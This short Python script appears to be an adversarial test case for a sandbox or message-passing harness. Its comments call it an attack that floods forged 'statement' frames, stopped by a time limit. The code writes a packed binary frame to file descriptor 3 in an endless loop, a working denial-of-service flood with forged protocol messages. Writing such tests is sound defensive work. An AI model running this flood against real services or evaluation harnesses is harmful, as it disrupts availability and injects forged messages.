# attack: forge a flood of "statement" frames
# held by: time limit
# outcome: crashed|timed_out
import os, struct
frame = struct.pack("<BIIII", 17, 12, 0, 0, 0)
block = frame * 1000
def go():
    while True:
        os.write(3, block)
